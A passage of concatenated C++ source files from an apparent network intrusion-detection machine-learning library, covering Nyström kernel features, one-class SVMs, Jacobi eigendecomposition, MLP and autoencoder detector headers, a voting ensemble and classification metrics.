  // kernel matrix comes from one sq_dist_batch (GEMM) plus an exp sweep.
  const size_t m = n_landmarks_;
  std::vector<double> kmm(m * m, 0.0);
  dense::sq_dist_batch(m, m, n_features_, landmarks_.data(), n_features_,
                       landmarks_.data(), n_features_, landmark_norms_.data(),
                       landmark_norms_.data(), kmm.data(), m);
  rbf_from_sq_dists(m * m, gamma_, kmm.data());
  const SymEigen eig = jacobi_eigen(kmm, m);
  // Keep components with eigenvalue above a floor; projection = V L^{-1/2}.
  rank_ = 0;
  for (double v : eig.values) {
    if (v > 1e-8) ++rank_;
  }
  if (rank_ == 0) rank_ = 1;
  projection_.assign(m * rank_, 0.0);
  for (size_t c = 0; c < rank_; ++c) {
    const double inv_sqrt = 1.0 / std::sqrt(std::max(eig.values[c], 1e-8));
    for (size_t r = 0; r < m; ++r) {
      projection_[r * rank_ + c] = eig.vectors[r * m + c] * inv_sqrt;
    }
  }
}

FeatureTable NystromMap::transform(const FeatureTable& X) const {
  std::vector<std::string> names(rank_);
  for (size_t c = 0; c < rank_; ++c) names[c] = "nys_" + std::to_string(c);
  FeatureTable out = FeatureTable::make(X.rows, std::move(names));
  out.labels = X.labels;
  out.unit_id = X.unit_id;
  out.attack = X.attack;
  out.unit_time = X.unit_time;

  // Blocked: kernel block K[m x landmarks] from one sq_dist_batch + exp
  // sweep, then the projection as a GEMM into the output rows.
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        const size_t m = hi - lo;
        thread_local std::vector<double> kmat;
        kmat.resize(m * n_landmarks_);
        dense::sq_dist_batch(m, n_landmarks_, n_features_,
                             X.data.data() + lo * X.cols, X.cols,
                             landmarks_.data(), n_features_, /*xn=*/nullptr,
                             landmark_norms_.data(), kmat.data(),
                             n_landmarks_);
        rbf_from_sq_dists(m * n_landmarks_, gamma_, kmat.data());
        dense::gemm_nn(m, rank_, n_landmarks_, kmat.data(), n_landmarks_,
                       projection_.data(), rank_, 0.0,
                       out.data.data() + lo * rank_, rank_);
      },
      /*min_parallel=*/2);
  return out;
}

FeatureTable NystromMap::transform_perrow(const FeatureTable& X) const {
  std::vector<std::string> names(rank_);
  for (size_t c = 0; c < rank_; ++c) names[c] = "nys_" + std::to_string(c);
  FeatureTable out = FeatureTable::make(X.rows, std::move(names));
  out.labels = X.labels;
  out.unit_id = X.unit_id;
  out.attack = X.attack;
  out.unit_time = X.unit_time;

  parallel_for(
      0, X.rows,
      [&](size_t r) {
        thread_local std::vector<double> kvec;
        kvec.resize(n_landmarks_);
        const auto x = X.row(r);
        for (size_t i = 0; i < n_landmarks_; ++i) {
          kvec[i] = rbf_kernel(
              x, {landmarks_.data() + i * n_features_, n_features_}, gamma_);
        }
        for (size_t c = 0; c < rank_; ++c) {
          double acc = 0.0;
          for (size_t i = 0; i < n_landmarks_; ++i) {
            acc += kvec[i] * projection_[i * rank_ + c];
          }
          out.at(r, c) = acc;
        }
      },
      /*min_parallel=*/32);
  return out;
}

// ------------------------------------------------------------ kernel OCSVM

namespace {

/// Project v onto { 0 <= a_i <= cap, sum a_i = 1 } by bisection on the
/// Lagrange shift.
void project_capped_simplex(std::vector<double>& v, double cap) {
  double lo = -1.0, hi = 1.0;
  auto mass = [&](double shift) {
    double s = 0.0;
    for (double x : v) s += std::clamp(x - shift, 0.0, cap);
    return s;
  };
  // Expand the bracket until it contains the root of mass(shift) = 1.
  while (mass(lo) < 1.0) lo -= (hi - lo) + 1.0;
  while (mass(hi) > 1.0) hi += (hi - lo) + 1.0;
  for (int it = 0; it < 60; ++it) {
    const double mid = 0.5 * (lo + hi);
    if (mass(mid) > 1.0) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  const double shift = 0.5 * (lo + hi);
  for (double& x : v) x = std::clamp(x - shift, 0.0, cap);
}

}  // namespace

void OneClassSvm::fit(const FeatureTable& X) {
  const std::vector<size_t> benign = benign_rows(X);
  std::vector<size_t> rows = benign;
  if (rows.size() > cfg_.max_train_rows) {
    Rng rng(cfg_.seed);
    rng.shuffle(rows);
    rows.resize(cfg_.max_train_rows);
    std::sort(rows.begin(), rows.end());
  }
  support_ = X.select_rows(rows);
  const size_t n = support_.rows;
  alpha_.assign(n, n > 0 ? 1.0 / static_cast<double>(n) : 0.0);
  n_sv_ = 0;
  sv_x_.clear();
  sv_alpha_.clear();
  sv_norms_.clear();
  if (n == 0) return;

  gamma_ = cfg_.gamma > 0.0 ? cfg_.gamma : median_heuristic_gamma(support_);

  // Dense kernel matrix over the (capped) training set: one sq_dist_batch
  // (GEMM) plus an exp sweep.
  std::vector<double> K(n * n);
  std::vector<double> norms(n);
  dense::row_sq_norms(n, support_.cols, support_.data.data(), support_.cols,
                      norms.data());
  dense::sq_dist_batch(n, n, support_.cols, support_.data.data(),
                       support_.cols, support_.data.data(), support_.cols,
                       norms.data(), norms.data(), K.data(), n);
  rbf_from_sq_dists(n * n, gamma_, K.data());

  const double cap =
      std::max(1.0 / (cfg_.nu * static_cast<double>(n)), 1.0 / static_cast<double>(n));
  std::vector<double> grad(n);
  double step = 1.0;
  for (size_t it = 0; it < cfg_.iters; ++it) {
    // Gradient = K alpha, one GEMV per step.
    dense::gemv(n, n, K.data(), n, alpha_.data(), nullptr, grad.data());
    const double lr = step / (1.0 + 0.05 * static_cast<double>(it));
    for (size_t i = 0; i < n; ++i) alpha_[i] -= lr * grad[i];
    project_capped_simplex(alpha_, cap);
  }

  // rho = decision value at an unbounded support vector (median over them).
  std::vector<double> kalpha(n);
  dense::gemv(n, n, K.data(), n, alpha_.data(), nullptr, kalpha.data());
  std::vector<double> sv_values;
  for (size_t i = 0; i < n; ++i) {
    if (alpha_[i] > 1e-8 && alpha_[i] < cap - 1e-8) {
      sv_values.push_back(kalpha[i]);
    }
  }
  if (sv_values.empty()) sv_values = kalpha;
  rho_ = features::median(sv_values);

  // Compact support set: only rows with non-negligible alpha take part in
  // the decision function (same 1e-10 cutoff the per-row path uses).
  for (size_t i = 0; i < n; ++i) {
    if (alpha_[i] <= 1e-10) continue;
    const auto row = support_.row(i);
    sv_x_.insert(sv_x_.end(), row.begin(), row.end());
    sv_alpha_.push_back(alpha_[i]);
    ++n_sv_;
  }
  sv_norms_.resize(n_sv_);
  dense::row_sq_norms(n_sv_, support_.cols, sv_x_.data(), support_.cols,
                      sv_norms_.data());

  // Calibrate the alert threshold on benign training scores, through the
  // same batched path score() uses.
  std::vector<double> s = score(support_);
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

double OneClassSvm::decision(std::span<const double> x) const {
  double g = 0.0;
  for (size_t i = 0; i < support_.rows; ++i) {
    if (alpha_[i] <= 1e-10) continue;
    g += alpha_[i] * rbf_kernel(support_.row(i), x, gamma_);
  }
  return rho_ - g;  // positive = outside the benign region
}

std::vector<double> OneClassSvm::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (n_sv_ == 0) {
    for (size_t r = 0; r < X.rows; ++r) out[r] = rho_;
    return out;
  }
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        const size_t m = hi - lo;
        thread_local std::vector<double> kmat;
        kmat.resize(m * n_sv_);
        dense::sq_dist_batch(m, n_sv_, support_.cols,
                             X.data.data() + lo * X.cols, X.cols, sv_x_.data(),
                             support_.cols, /*xn=*/nullptr, sv_norms_.data(),
                             kmat.data(), n_sv_);
        rbf_from_sq_dists(m * n_sv_, gamma_, kmat.data());
        dense::gemv(m, n_sv_, kmat.data(), n_sv_, sv_alpha_.data(), nullptr,
                    out.data() + lo);
        for (size_t i = lo; i < hi; ++i) out[i] = rho_ - out[i];
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> OneClassSvm::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  parallel_for(
      0, X.rows, [&](size_t r) { out[r] = decision(X.row(r)); },
      /*min_parallel=*/16);
  return out;
}

std::vector<int> OneClassSvm::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

// ------------------------------------------------------------ linear OCSVM

void LinearOneClassSvm::fit(const FeatureTable& X) {
  const std::vector<size_t> rows = benign_rows(X);
  w_.assign(X.cols, 0.0);
  rho_ = 0.0;
  if (rows.empty()) return;

  const double inv_nu_n = 1.0 / (cfg_.nu * static_cast<double>(rows.size()));
  std::vector<size_t> order = rows;
  Rng rng(cfg_.seed);
  for (size_t e = 0; e < cfg_.epochs; ++e) {
    rng.shuffle(order);
    const double lr = cfg_.lr / (1.0 + 0.2 * static_cast<double>(e));
    for (size_t r : order) {
      const auto x = X.row(r);
      const double wx = dense::dot(X.cols, w_.data(), x.data());
      // Gradient of 0.5||w||^2 - rho + inv_nu_n * hinge(rho - w.x).
      for (size_t c = 0; c < X.cols; ++c) w_[c] -= lr * w_[c];
      double drho = -1.0;
      if (rho_ - wx > 0.0) {
        dense::axpy(X.cols, lr * inv_nu_n, x.data(), w_.data());
        drho += inv_nu_n;
      }
      rho_ -= lr * drho;
    }
  }

  std::vector<double> s;
  s.reserve(rows.size());
  for (size_t r : rows) {
    const auto x = X.row(r);
    s.push_back(rho_ - dense::dot(X.cols, w_.data(), x.data()));
  }
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

std::vector<double> LinearOneClassSvm::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (w_.size() == X.cols && X.rows > 0) {
    // One GEMV over the whole table: out = rho - X w.
    dense::gemv(X.rows, X.cols, X.data.data(), X.cols, w_.data(), nullptr,
                out.data());
    for (size_t r = 0; r < X.rows; ++r) out[r] = rho_ - out[r];
    return out;
  }
  return score_perrow(X);
}

std::vector<double> LinearOneClassSvm::score_perrow(
    const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  for (size_t r = 0; r < X.rows; ++r) {
    const auto x = X.row(r);
    double wx = 0.0;
    for (size_t c = 0; c < X.cols && c < w_.size(); ++c) wx += w_[c] * x[c];
    out[r] = rho_ - wx;
  }
  return out;
}

std::vector<int> LinearOneClassSvm::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

}  // namespace lumen::ml
