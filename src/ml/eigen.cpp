#include "ml/eigen.h"

#include <algorithm>
#include <cmath>
#include <numeric>

namespace lumen::ml {

SymEigen jacobi_eigen(const std::vector<double>& a_in, size_t n,
                      size_t max_sweeps, double tol) {
  std::vector<double> a = a_in;
  std::vector<double> v(n * n, 0.0);
  for (size_t i = 0; i < n; ++i) v[i * n + i] = 1.0;

  auto off_diag_norm = [&]() {
    double s = 0.0;
    for (size_t i = 0; i < n; ++i) {
      for (size_t j = i + 1; j < n; ++j) s += a[i * n + j] * a[i * n + j];
    }
    return std::sqrt(s);
  };

  for (size_t sweep = 0; sweep < max_sweeps; ++sweep) {
    if (off_diag_norm() < tol) break;
    for (size_t p = 0; p + 1 < n; ++p) {
      for (size_t q = p + 1; q < n; ++q) {
        const double apq = a[p * n + q];
        if (std::fabs(apq) < 1e-300) continue;
        const double app = a[p * n + p];
        const double aqq = a[q * n + q];
        const double theta = (aqq - app) / (2.0 * apq);
        const double t = (theta >= 0.0 ? 1.0 : -1.0) /
                         (std::fabs(theta) + std::sqrt(theta * theta + 1.0));
        const double c = 1.0 / std::sqrt(t * t + 1.0);
        const double s = t * c;
        // Rotate rows/columns p and q of A.
        for (size_t k = 0; k < n; ++k) {
          const double akp = a[k * n + p];
          const double akq = a[k * n + q];
          a[k * n + p] = c * akp - s * akq;
          a[k * n + q] = s * akp + c * akq;
        }
        for (size_t k = 0; k < n; ++k) {
          const double apk = a[p * n + k];
          const double aqk = a[q * n + k];
          a[p * n + k] = c * apk - s * aqk;
          a[q * n + k] = s * apk + c * aqk;
        }
        // Accumulate eigenvectors.
        for (size_t k = 0; k < n; ++k) {
          const double vkp = v[k * n + p];
          const double vkq = v[k * n + q];
          v[k * n + p] = c * vkp - s * vkq;
          v[k * n + q] = s * vkp + c * vkq;
        }
      }
    }
  }

  // Sort eigenpairs by descending eigenvalue.
  std::vector<size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  std::vector<double> diag(n);
  for (size_t i = 0; i < n; ++i) diag[i] = a[i * n + i];
  std::sort(order.begin(), order.end(),
            [&](size_t x, size_t y) { return diag[x] > diag[y]; });

  SymEigen out;
  out.n = n;
  out.values.resize(n);
  out.vectors.assign(n * n, 0.0);
  for (size_t i = 0; i < n; ++i) {
    out.values[i] = diag[order[i]];
    for (size_t k = 0; k < n; ++k) {
      out.vectors[k * n + i] = v[k * n + order[i]];
    }
  }
  return out;
}

}  // namespace lumen::ml
