#include "ml/eigen.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "ml/dense.h"

namespace lumen::ml {

SymEigen jacobi_eigen(const std::vector<double>& a_in, size_t n,
                      size_t max_sweeps, double tol) {
  std::vector<double> a = a_in;
  // Eigenvectors accumulate transposed (vt row k = k-th eigenvector), so
  // each Jacobi rotation updates two contiguous rows instead of two
  // stride-n columns.
  std::vector<double> vt(n * n, 0.0);
  for (size_t i = 0; i < n; ++i) vt[i * n + i] = 1.0;

  auto off_diag_norm = [&]() {
    double s = 0.0;
    for (size_t i = 0; i < n; ++i) {
      for (size_t j = i + 1; j < n; ++j) s += a[i * n + j] * a[i * n + j];
    }
    return std::sqrt(s);
  };

  for (size_t sweep = 0; sweep < max_sweeps; ++sweep) {
    if (off_diag_norm() < tol) break;
    for (size_t p = 0; p + 1 < n; ++p) {
      for (size_t q = p + 1; q < n; ++q) {
        const double apq = a[p * n + q];
        if (std::fabs(apq) < 1e-300) continue;
        const double app = a[p * n + p];
        const double aqq = a[q * n + q];
        const double theta = (aqq - app) / (2.0 * apq);
        const double t = (theta >= 0.0 ? 1.0 : -1.0) /
                         (std::fabs(theta) + std::sqrt(theta * theta + 1.0));
        const double c = 1.0 / std::sqrt(t * t + 1.0);
        const double s = t * c;
        // Rotate columns p and q of A (stride n), then rows p and q
        // (contiguous), then the eigenvector rows.
        dense::rot(n, a.data() + p, n, a.data() + q, n, c, s);
        dense::rot(n, a.data() + p * n, 1, a.data() + q * n, 1, c, s);
        dense::rot(n, vt.data() + p * n, 1, vt.data() + q * n, 1, c, s);
      }
    }
  }

  // Sort eigenpairs by descending eigenvalue.
  std::vector<size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  std::vector<double> diag(n);
  for (size_t i = 0; i < n; ++i) diag[i] = a[i * n + i];
  std::sort(order.begin(), order.end(),
            [&](size_t x, size_t y) { return diag[x] > diag[y]; });

  SymEigen out;
  out.n = n;
  out.values.resize(n);
  out.vectors.assign(n * n, 0.0);
  for (size_t i = 0; i < n; ++i) {
    out.values[i] = diag[order[i]];
    const double* vrow = vt.data() + order[i] * n;
    for (size_t k = 0; k < n; ++k) {
      out.vectors[k * n + i] = vrow[k];
    }
  }
  return out;
}

}  // namespace lumen::ml
