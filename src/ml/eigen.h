// Symmetric eigendecomposition by cyclic Jacobi rotations. Sized for the
// small landmark matrices used by the Nyström approximation (m <= ~256).
#pragma once

#include <cstddef>
#include <vector>

namespace lumen::ml {

/// Dense symmetric matrix in row-major order.
struct SymEigen {
  std::vector<double> values;   // eigenvalues, descending
  std::vector<double> vectors;  // column i (stride n) is the i-th eigenvector
  size_t n = 0;
};

/// Decompose the n x n symmetric matrix `a` (row-major). `a` is copied.
SymEigen jacobi_eigen(const std::vector<double>& a, size_t n,
                      size_t max_sweeps = 64, double tol = 1e-12);

}  // namespace lumen::ml
