// Feed-forward neural nets trained by SGD:
//  * Mlp         — binary classifier, ReLU hidden layers + sigmoid output.
//  * AutoEncoderCore — one-hidden-layer autoencoder with online 0-1 input
//    normalization (the building block Kitsune stacks into KitNET).
//  * AutoEncoderDetector — Model adapter: train on benign rows, score by
//    reconstruction RMSE, threshold at a benign quantile.
#pragma once

#include "ml/model.h"

namespace lumen::ml {

struct MlpConfig {
  std::vector<size_t> hidden = {32, 16};
  double lr = 0.02;
  size_t epochs = 30;
  uint64_t seed = 43;
};

class Mlp : public Model {
 public:
  explicit Mlp(MlpConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "MLP"; }
  bool is_supervised() const override { return true; }

 private:
  struct Layer {
    size_t in = 0, out = 0;
    std::vector<double> w;  // out x in
    std::vector<double> b;  // out
  };

  double forward(std::span<const double> x, std::vector<std::vector<double>>* acts) const;
  void fit_standardizer(const FeatureTable& X);
  std::vector<double> standardized(std::span<const double> x) const;

  MlpConfig cfg_;
  std::vector<Layer> layers_;
  std::vector<double> mean_, inv_sd_;
};

/// Single-hidden-layer autoencoder with sigmoid activations and online
/// min-max input normalization, trained per-sample (Kitsune-style).
class AutoEncoderCore {
 public:
  /// hidden_ratio: hidden size = max(1, ceil(ratio * dim)).
  AutoEncoderCore(size_t dim, double hidden_ratio, double lr, uint64_t seed);

  /// Reusable buffers for allocation-free scoring; one scratch may be
  /// shared across cores of different dimensions (buffers are resized).
  struct ScoreScratch {
    std::vector<double> z;  // normalized input
    std::vector<double> h;  // hidden activations
  };

  /// One SGD step on x; returns the reconstruction RMSE *before* the update.
  double train_sample(std::span<const double> x);

  /// Reconstruction RMSE without updating weights.
  double score_sample(std::span<const double> x) const;

  /// Same, but reusing caller-owned buffers (the per-packet hot path).
  double score_sample(std::span<const double> x, ScoreScratch& scratch) const;

  size_t dim() const { return dim_; }
  size_t hidden() const { return hidden_; }

 private:
  std::vector<double> normalize(std::span<const double> x) const;
  void normalize_into(std::span<const double> x, std::vector<double>& z) const;
  void update_norm(std::span<const double> x);

  size_t dim_;
  size_t hidden_;
  double lr_;
  std::vector<double> w1_, b1_;  // hidden x dim, hidden
  std::vector<double> w2_, b2_;  // dim x hidden, dim
  std::vector<double> norm_min_, norm_max_;
  bool norm_init_ = false;
};

struct AutoEncoderConfig {
  double hidden_ratio = 0.5;
  double lr = 0.1;
  size_t epochs = 4;
  double quantile = 0.97;
  uint64_t seed = 47;
};

class AutoEncoderDetector : public Model {
 public:
  explicit AutoEncoderDetector(AutoEncoderConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "AutoEncoder"; }
  bool is_supervised() const override { return false; }

  double threshold() const { return threshold_; }

 private:
  AutoEncoderConfig cfg_;
  std::unique_ptr<AutoEncoderCore> ae_;
  double threshold_ = 0.0;
};

}  // namespace lumen::ml
