// Feed-forward neural nets trained by SGD:
//  * Mlp         — binary classifier, ReLU hidden layers + sigmoid output.
//  * AutoEncoderCore — one-hidden-layer autoencoder with online 0-1 input
//    normalization (the building block Kitsune stacks into KitNET).
//  * AutoEncoderDetector — Model adapter: train on benign rows, score by
//    reconstruction RMSE, threshold at a benign quantile.
//
// All the forward/backward math routes through the dense-kernel library
// (ml/dense.h): training runs minibatch GEMMs over the contiguous row-major
// weights, and the score(FeatureTable) paths process dense::kScoreBlock-row
// blocks instead of row-at-a-time. The pre-PR row-at-a-time scorers are
// kept as *_perrow reference paths for the equivalence tests and the
// batched-vs-per-row benchmark gate.
#pragma once

#include "ml/dense.h"
#include "ml/model.h"

namespace lumen::ml {

struct MlpConfig {
  std::vector<size_t> hidden = {32, 16};
  double lr = 0.02;
  size_t epochs = 30;
  size_t batch = 32;  // minibatch size for the GEMM-based SGD
  uint64_t seed = 43;
};

class Mlp : public Model {
 public:
  explicit Mlp(MlpConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "MLP"; }
  bool is_supervised() const override { return true; }

  /// Reusable buffers for allocation-free single-row scoring.
  struct ScoreScratch {
    std::vector<double> a;  // ping
    std::vector<double> b;  // pong
  };

  /// Score one feature vector without touching a table (streaming path);
  /// the scratch overload never allocates in steady state.
  double score_row(std::span<const double> x) const;
  double score_row(std::span<const double> x, ScoreScratch& scratch) const;

  /// Pre-PR reference: row-at-a-time scalar forward with per-row activation
  /// allocations. Kept for the batched-vs-per-row equivalence tests and the
  /// BENCH_ml baseline; not a production path.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  /// Buffers for the fused micro-batch path (score_rows).
  struct RowsScratch {
    std::vector<double> z;  // m x in standardized inputs
    std::vector<double> a;  // ping (padded layer activations)
    std::vector<double> b;  // pong
  };

  /// Fused micro-batch scoring over the packed layer weights (see
  /// dense::PackedDense): out[i] = score of row i of the m x cols row-major
  /// block x (row stride ldx). Activations sweep per row, so results are
  /// bit-identical no matter how rows are grouped into batches. fit() packs
  /// the layers; an unfitted model scores zeros.
  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  RowsScratch& scratch) const;

 private:
  struct Layer {
    size_t in = 0, out = 0;
    std::vector<double> w;  // out x in
    std::vector<double> b;  // out
  };

  /// Pack every layer's weights for score_rows; called at the end of fit.
  void seal();

  double forward(std::span<const double> x, std::vector<std::vector<double>>* acts) const;
  void fit_standardizer(const FeatureTable& X);
  std::vector<double> standardized(std::span<const double> x) const;
  /// Standardize rows [lo, hi) of X into z (row-major, X.cols stride).
  void standardize_block(const FeatureTable& X, size_t lo, size_t hi,
                         double* z) const;
  /// One minibatch SGD step over rows[lo, hi) of the shuffled order.
  void train_batch(const FeatureTable& X, const std::vector<size_t>& order,
                   size_t lo, size_t hi, double lr, double w_pos,
                   double w_neg, std::vector<std::vector<double>>& acts,
                   std::vector<double>& delta, std::vector<double>& delta_prev);

  MlpConfig cfg_;
  std::vector<Layer> layers_;
  std::vector<dense::PackedDense> packed_;  // one per layer, set by seal()
  std::vector<double> mean_, inv_sd_;
};

/// Single-hidden-layer autoencoder with sigmoid activations and online
/// min-max input normalization, trained per-sample (Kitsune-style).
class AutoEncoderCore {
 public:
  /// hidden_ratio: hidden size = max(1, ceil(ratio * dim)).
  AutoEncoderCore(size_t dim, double hidden_ratio, double lr, uint64_t seed);

  /// Reusable buffers for allocation-free scoring; one scratch may be
  /// shared across cores of different dimensions (buffers are resized).
  struct ScoreScratch {
    std::vector<double> z;  // normalized input
    std::vector<double> h;  // hidden activations
  };

  /// Buffers for blocked batch scoring (score_batch).
  struct BatchScratch {
    std::vector<double> z;    // m x dim normalized inputs
    std::vector<double> h;    // m x hidden
    std::vector<double> y;    // m x dim reconstructions
    std::vector<double> inv;  // dim reciprocal normalization ranges
  };

  /// Buffers for the fused micro-batch path (score_rows). Like ScoreScratch,
  /// one scratch may be shared across cores of different dimensions.
  struct RowsScratch {
    std::vector<double> z;    // m x dim normalized inputs
    std::vector<double> h;    // m x padded hidden activations
    std::vector<double> y;    // m x padded reconstructions
    std::vector<double> inv;  // dim reciprocal normalization ranges
    ScoreScratch row;         // unsealed fallback
  };

  /// One SGD step on x; returns the reconstruction RMSE *before* the update.
  double train_sample(std::span<const double> x);

  /// Reconstruction RMSE without updating weights.
  double score_sample(std::span<const double> x) const;

  /// Same, but reusing caller-owned buffers (the per-packet hot path).
  double score_sample(std::span<const double> x, ScoreScratch& scratch) const;

  /// Batched scoring: out[i] = reconstruction RMSE of row i of the m x dim
  /// row-major block x (row stride ldx). Forward pass runs as two GEMMs
  /// plus fused sigmoid sweeps over the whole block.
  void score_batch(const double* x, size_t m, size_t ldx, double* out,
                   BatchScratch& scratch) const;

  /// Pack the current weights into the PackedDense layout used by
  /// score_rows. Called once when training finishes (the owning fit());
  /// any later train_sample invalidates the seal. Packing is explicit —
  /// not lazy — so the const score paths stay safe to call concurrently.
  void seal();
  bool sealed() const { return sealed_; }

  /// Fused micro-batch scoring for the online hot path: out[i] =
  /// reconstruction RMSE of row i of the m x dim block x (row stride ldx).
  /// Runs encode/decode over the packed panels with per-row activation
  /// sweeps, so row i's score is bit-identical no matter how the stream is
  /// chopped into micro-batches (see the PackedDense contract). Falls back
  /// to a score_sample loop when not sealed.
  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  RowsScratch& scratch) const;

  size_t dim() const { return dim_; }
  size_t hidden() const { return hidden_; }

  /// Read-only view of the fitted parameters for the model compiler
  /// (ml/compiled.*): raw layer weights plus the normalization ranges.
  struct ParamsView {
    size_t dim = 0, hidden = 0;
    const double* w1 = nullptr;  // hidden x dim
    const double* b1 = nullptr;  // hidden
    const double* w2 = nullptr;  // dim x hidden
    const double* b2 = nullptr;  // dim
    const double* norm_min = nullptr;  // dim
    const double* norm_max = nullptr;  // dim
  };
  ParamsView params_view() const {
    return {dim_,       hidden_,    w1_.data(),       b1_.data(),
            w2_.data(), b2_.data(), norm_min_.data(), norm_max_.data()};
  }

 private:
  std::vector<double> normalize(std::span<const double> x) const;
  void normalize_into(std::span<const double> x, std::vector<double>& z) const;
  void update_norm(std::span<const double> x);

  size_t dim_;
  size_t hidden_;
  double lr_;
  std::vector<double> w1_, b1_;  // hidden x dim, hidden
  std::vector<double> w2_, b2_;  // dim x hidden, dim
  dense::PackedDense enc_, dec_;  // packed w1/w2 panels (valid iff sealed_)
  bool sealed_ = false;
  std::vector<double> norm_min_, norm_max_;
  bool norm_init_ = false;
  // Reused train_sample buffers (z, h, y, dy, dh, dvec); copying a core
  // copies them harmlessly.
  std::vector<double> tz_, th_, ty_, tdy_, tdh_, tdv_;
};

struct AutoEncoderConfig {
  double hidden_ratio = 0.5;
  double lr = 0.1;
  size_t epochs = 4;
  double quantile = 0.97;
  uint64_t seed = 47;
};

class AutoEncoderDetector : public Model {
 public:
  explicit AutoEncoderDetector(AutoEncoderConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "AutoEncoder"; }
  bool is_supervised() const override { return false; }

  double threshold() const { return threshold_; }

  /// The fitted core (null before fit) — for the model compiler.
  const AutoEncoderCore* core() const { return ae_.get(); }

  /// Pre-PR reference path (row-at-a-time score_sample loop).
  std::vector<double> score_perrow(const FeatureTable& X) const;

 private:
  AutoEncoderConfig cfg_;
  std::unique_ptr<AutoEncoderCore> ae_;
  double threshold_ = 0.0;
};

}  // namespace lumen::ml
