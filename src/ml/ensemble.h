// Soft-voting ensemble over heterogeneous base models (the ML-DDoS and
// Ensemble-IDS baselines combine RF/SVM/DT/kNN or NB/DT/RF/DNN this way).
#pragma once

#include "ml/model.h"

namespace lumen::ml {

class VotingEnsemble : public Model {
 public:
  explicit VotingEnsemble(std::vector<ModelPtr> members, std::string label = "Ensemble")
      : members_(std::move(members)), label_(std::move(label)) {}

  void fit(const FeatureTable& X) override {
    for (auto& m : members_) m->fit(X);
  }

  std::vector<double> score(const FeatureTable& X) const override {
    std::vector<double> out(X.rows, 0.0);
    if (members_.empty()) return out;
    for (const auto& m : members_) {
      const std::vector<double> s = m->score(X);
      for (size_t r = 0; r < X.rows; ++r) out[r] += s[r];
    }
    const double inv = 1.0 / static_cast<double>(members_.size());
    for (double& v : out) v *= inv;
    return out;
  }

  std::vector<int> predict(const FeatureTable& X) const override {
    // Majority vote over member predictions.
    std::vector<int> votes(X.rows, 0);
    for (const auto& m : members_) {
      const std::vector<int> p = m->predict(X);
      for (size_t r = 0; r < X.rows; ++r) votes[r] += p[r];
    }
    std::vector<int> out(X.rows);
    const int need = static_cast<int>((members_.size() + 1) / 2);
    for (size_t r = 0; r < X.rows; ++r) out[r] = votes[r] >= need ? 1 : 0;
    return out;
  }

  std::string name() const override { return label_; }
  bool is_supervised() const override { return true; }
  size_t member_count() const { return members_.size(); }

 private:
  std::vector<ModelPtr> members_;
  std::string label_;
};

}  // namespace lumen::ml
