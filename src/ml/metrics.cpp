#include "ml/metrics.h"

#include <algorithm>
#include <numeric>

namespace lumen::ml {

Confusion confusion(std::span<const int> y_true, std::span<const int> y_pred) {
  Confusion c;
  const size_t n = std::min(y_true.size(), y_pred.size());
  for (size_t i = 0; i < n; ++i) {
    if (y_true[i] != 0) {
      if (y_pred[i] != 0) ++c.tp; else ++c.fn;
    } else {
      if (y_pred[i] != 0) ++c.fp; else ++c.tn;
    }
  }
  return c;
}

double precision(const Confusion& c) {
  const size_t denom = c.tp + c.fp;
  return denom > 0 ? static_cast<double>(c.tp) / static_cast<double>(denom) : 0.0;
}

double recall(const Confusion& c) {
  const size_t denom = c.tp + c.fn;
  return denom > 0 ? static_cast<double>(c.tp) / static_cast<double>(denom) : 0.0;
}

double f1(const Confusion& c) {
  const double p = precision(c);
  const double r = recall(c);
  return (p + r) > 1e-12 ? 2.0 * p * r / (p + r) : 0.0;
}

double accuracy(const Confusion& c) {
  const size_t total = c.tp + c.fp + c.tn + c.fn;
  return total > 0
             ? static_cast<double>(c.tp + c.tn) / static_cast<double>(total)
             : 0.0;
}

double auc(std::span<const int> y_true, std::span<const double> scores) {
  const size_t n = std::min(y_true.size(), scores.size());
  size_t n_pos = 0;
  for (size_t i = 0; i < n; ++i) n_pos += (y_true[i] != 0);
  const size_t n_neg = n - n_pos;
  if (n_pos == 0 || n_neg == 0) return 0.5;

  std::vector<size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  std::sort(order.begin(), order.end(),
            [&](size_t a, size_t b) { return scores[a] < scores[b]; });

  // Midrank handling for ties.
  std::vector<double> rank(n, 0.0);
  size_t i = 0;
  while (i < n) {
    size_t j = i;
